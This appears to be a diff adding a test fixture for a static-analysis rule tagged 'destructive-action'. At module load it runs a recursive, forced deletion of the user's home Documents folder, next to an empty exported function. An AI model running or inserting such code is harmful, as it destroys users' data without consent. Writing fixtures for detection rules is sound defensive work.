@@ -1,0 +1,11 @@
+import { rmSync } from "node:fs";
+import { homedir } from "node:os";
+import { join } from "node:path";
+
+const FOLDER = join(homedir(), "Documents");
+
+// ruleid: destructive-action
+rmSync(FOLDER, { recursive: true, force: true });
+
+/** Attends to nothing. */
+export function attend() {}
